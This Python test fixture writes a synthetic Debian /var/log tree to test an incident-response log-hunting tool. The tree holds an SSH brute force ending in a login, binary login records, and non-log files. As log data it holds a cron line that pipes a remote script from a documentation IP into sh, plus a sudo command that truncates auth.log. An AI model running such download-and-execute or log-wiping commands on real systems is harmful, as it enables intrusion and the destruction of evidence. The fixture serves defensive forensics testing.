"""A copied ``/var/log`` tree as an incident responder gets it, for ``keibi hunt DIR``.

Debian 12 layout with rsyslog installed: a rotated auth log (plain, ``.1``, ``.2.gz``)
holding a brute force that ends in a login, syslog with cron and kernel lines, dpkg's
and apt's logs, auditd's log, a ``journalctl -o json`` export, and what else lives
there: binary login records (wtmp, btmp, lastlog, faillog), a gzip that is not a log, a
text log keibi has no parser for, an empty file and a symbolic link. :data:`EXPECTED`
says, per file, the source type keibi must read it with (None: skipped).
"""

from __future__ import annotations

import gzip
import os
import random
import struct
from datetime import UTC, datetime
from pathlib import Path

from tests.parsers.sample_corpus import SAMPLES

ATTACKER = "203.0.113.77"
HOST = "web01"

#: relative path -> source type (None: skipped, not a log keibi reads)
EXPECTED: dict[str, str | None] = {
    "auth.log": "auth",
    "auth.log.1": "auth",
    "auth.log.2.gz": "auth",
    "syslog": "syslog",
    "syslog.1": "syslog",
    "kern.log": "syslog",
    "dpkg.log": "dpkg",
    "dpkg.log.1": "dpkg",
    "apt/history.log": "apt",
    "apt/history.log.1.gz": "apt",
    "apt/term.log": None,
    "audit/audit.log": "audit",
    "audit/audit.log.1": "audit",
    "journal-export.json": "journald",
    # a renamed copy: no name to go by, found by its content (syslog lines: the syslog
    # dispatcher, which hands sshd's lines to the auth parser)
    "evidence/host-auth.txt": "syslog",
    "wtmp": None,
    "wtmp.1": None,
    "btmp": None,
    "lastlog": None,
    "faillog": None,
    "random.gz": None,
    "alternatives.log": None,
    "fontconfig.log": None,
    "fail2ban.log": None,
    "journal/0123456789abcdef0123456789abcdef/system.journal": None,
}


def _stamp(dt: datetime) -> str:
    return f"{dt:%b} {dt.day:>2} {dt:%H:%M:%S}"


def _syslog(start: datetime, items: list[tuple[int, str]]) -> str:
    out = []
    for secs, msg in items:
        ts = datetime.fromtimestamp(start.timestamp() + secs, UTC)
        out.append(f"{_stamp(ts)} {HOST} {msg}")
    return "\n".join(out) + "\n"


def _attempt(pid: int, user: str, port: int) -> list[str]:
    return [f"sshd[{pid}]: Invalid user {user} from {ATTACKER} port {port}",
            f"sshd[{pid}]: pam_unix(sshd:auth): authentication failure; logname= uid=0 "
            f"euid=0 tty=ssh ruser= rhost={ATTACKER}",
            f"sshd[{pid}]: Failed password for invalid user {user} from {ATTACKER} port "
            f"{port} ssh2"]


def _data_lines(corpus: Path) -> str:
    """The data lines of a sample corpus (tests/samples/README.md), without expectations."""
    keep = [ln for ln in corpus.read_text().splitlines()
            if ln.strip() and not ln.startswith("# expect") and not ln.startswith("##")]
    return "\n".join(keep) + "\n"


def _utmp(user: str, line: str, host: str, when: int, kind: int = 7) -> bytes:
    """One glibc utmp record (384 bytes): type, pid, line, id, user, host, ..., time."""
    return struct.pack("<hxxi32s4s32s256shhiii4i20x", kind, 4242, line.encode(), b"ts/0",
                       user.encode(), host.encode(), 0, 0, 0, when, 0, 0, 0, 0, 0)


def _gz(path: Path, text: str, mtime: datetime) -> None:
    path.write_bytes(gzip.compress(text.encode(), mtime=int(mtime.timestamp())))


def build(root: Path) -> Path:
    """Write the tree under ``root/log`` and return that directory."""
    d = root / "log"
    for sub in ("apt", "audit", "evidence", "private", "journal"):
        (d / sub).mkdir(parents=True)
    nov18 = datetime(2026, 11, 18, 6, 25, tzinfo=UTC)
    nov19 = datetime(2026, 11, 19, 6, 25, tzinfo=UTC)
    nov20 = datetime(2026, 11, 20, 10, 0, tzinfo=UTC)

    # auth: the brute force starts in .2.gz, goes on in .1, and the attacker gets in
    old = [(0, "CRON[811]: pam_unix(cron:session): session opened for user root(uid=0) by "
               "(uid=0)"),
           (1, "CRON[811]: pam_unix(cron:session): session closed for user root")]
    for k in range(3):
        old += [(3000 + 10 * k, ln) for ln in _attempt(900 + k, "oracle", 40100 + k)]
    _gz(d / "auth.log.2.gz", _syslog(nov20, old), nov20)
    mid = []
    for k in range(4):
        mid += [(3100 + 10 * k, ln) for ln in _attempt(950 + k, "test", 40200 + k)]
    (d / "auth.log.1").write_text(_syslog(nov20, mid))
    new = [(3300, f"sshd[990]: Accepted password for admin from {ATTACKER} port 40299 ssh2"),
           (3301, "sshd[990]: pam_unix(sshd:session): session opened for user admin(uid=1001)"
                  " by (uid=0)"),
           (3320, "sudo[995]:    admin : TTY=pts/0 ; PWD=/home/admin ; USER=root ; "
                  "COMMAND=/usr/bin/truncate -s 0 /var/log/auth.log")]
    (d / "auth.log").write_text(_syslog(nov20, new))
    (d / "evidence" / "host-auth.txt").write_text(_syslog(nov20, new[:1]))

    # syslog: cron jobs, kernel and systemd lines; kern.log the kernel's share
    kernel = [(3400, "kernel: [12345.678901] a.out[4321]: segfault at 0 ip 0000555555555131 "
                     "sp 00007ffd3c2b1e30 error 6 in a.out[555555555000+1000]"),
              (3401, "kernel: [12346.000001] usb 1-1: new high-speed USB device number 3 "
                     "using xhci_hcd")]
    cron = [(3060, "CRON[4322]: (root) CMD (   cd / && run-parts --report /etc/cron.hourly)"),
            (3360, "CRON[4400]: (admin) CMD (curl -s http://198.51.100.66/x.sh | sh)")]
    svc = [(3000, "systemd[1]: Started ssh.service - OpenBSD Secure Shell server.")]
    (d / "syslog").write_text(_syslog(nov20, sorted(svc + cron + kernel)))
    (d / "syslog.1").write_text(_syslog(nov19, [(0, "rsyslogd: [origin software=\"rsyslogd\""
                                                     " swVersion=\"8.2302.0\"] rsyslogd was "
                                                     "HUPed")]))
    (d / "kern.log").write_text(_syslog(nov20, kernel))

    # package managers
    (d / "dpkg.log.1").write_text("2026-11-19 06:25:14 upgrade openssl:amd64 3.0.11-1~deb12u1"
                                  " 3.0.15-1~deb12u1\n")
    (d / "dpkg.log").write_text("2026-11-20 11:01:02 startup archives unpack\n"
                                "2026-11-20 11:01:02 install nmap:amd64 <none> 7.93+dfsg1-1\n"
                                "2026-11-20 11:01:03 status installed nmap:amd64 "
                                "7.93+dfsg1-1\n")
    (d / "apt" / "history.log").write_text(
        "\nStart-Date: 2026-11-20  11:01:01\nCommandline: apt-get install -y nmap\n"
        "Requested-By: admin (1001)\nInstall: nmap:amd64 (7.93+dfsg1-1)\n"
        "End-Date: 2026-11-20  11:01:09\n")
    _gz(d / "apt" / "history.log.1.gz",
        "\nStart-Date: 2026-11-18  06:25:14\nCommandline: /usr/bin/unattended-upgrade\n"
        "Upgrade: tzdata:all (2024a-0+deb12u1, 2025b-0+deb12u1)\n"
        "End-Date: 2026-11-18  06:25:20\n", nov18)
    (d / "apt" / "term.log").write_text(
        "\nLog started: 2026-11-20  11:01:01\nSelecting previously unselected package nmap.\n"
        "Setting up nmap (7.93+dfsg1-1) ...\nLog ended: 2026-11-20  11:01:09\n\n")

    # audit: real records (raw format), and an older rotated file
    (d / "audit" / "audit.log").write_text(_data_lines(SAMPLES / "audit" / "exec_raw.log"))
    (d / "audit" / "audit.log.1").write_text(_data_lines(SAMPLES / "audit" / "user.log"))

    # a journalctl -o json export an admin saved next to the logs
    (d / "journal-export.json").write_text(_data_lines(SAMPLES / "journald" / "auth.json"))

    # binary files and things that are not logs
    when = int(nov20.timestamp()) + 3300
    (d / "wtmp").write_bytes(_utmp("admin", "pts/0", ATTACKER, when)
                             + _utmp("admin", "pts/0", "", when + 600, kind=8))
    (d / "wtmp.1").write_bytes(_utmp("reboot", "~", "6.1.0-28-amd64", when - 86400, kind=2))
    (d / "btmp").write_bytes(b"".join(_utmp("oracle", "ssh:notty", ATTACKER, when - 300 + i,
                                            kind=6) for i in range(7)))
    with open(d / "lastlog", "wb") as fh:  # sparse, as on a real host
        fh.seek(1001 * 292)
        fh.write(struct.pack("<i32s256s", when, b"pts/0", ATTACKER.encode()))
    (d / "faillog").write_bytes(b"\0" * 64)
    rng = random.Random(7)
    (d / "random.gz").write_bytes(gzip.compress(bytes(rng.getrandbits(8) for _ in range(4096))))
    (d / "alternatives.log").write_text(
        "update-alternatives 2026-11-20 11:01:05: run with --install /usr/bin/nc nc "
        "/bin/nc.openbsd 50\n")
    (d / "fontconfig.log").write_text("/usr/share/fonts: skipping, existing cache is valid: "
                                      "3 fonts, 0 dirs\n")
    (d / "fail2ban.log").write_text("")
    jdir = d / "journal" / "0123456789abcdef0123456789abcdef"
    jdir.mkdir()
    (jdir / "system.journal").write_bytes(b"LPKSHHRH" + b"\0" * 248 + b"\x01" * 64)
    os.symlink("../../usr/share/doc/systemd/README.logs", d / "README")
    return d
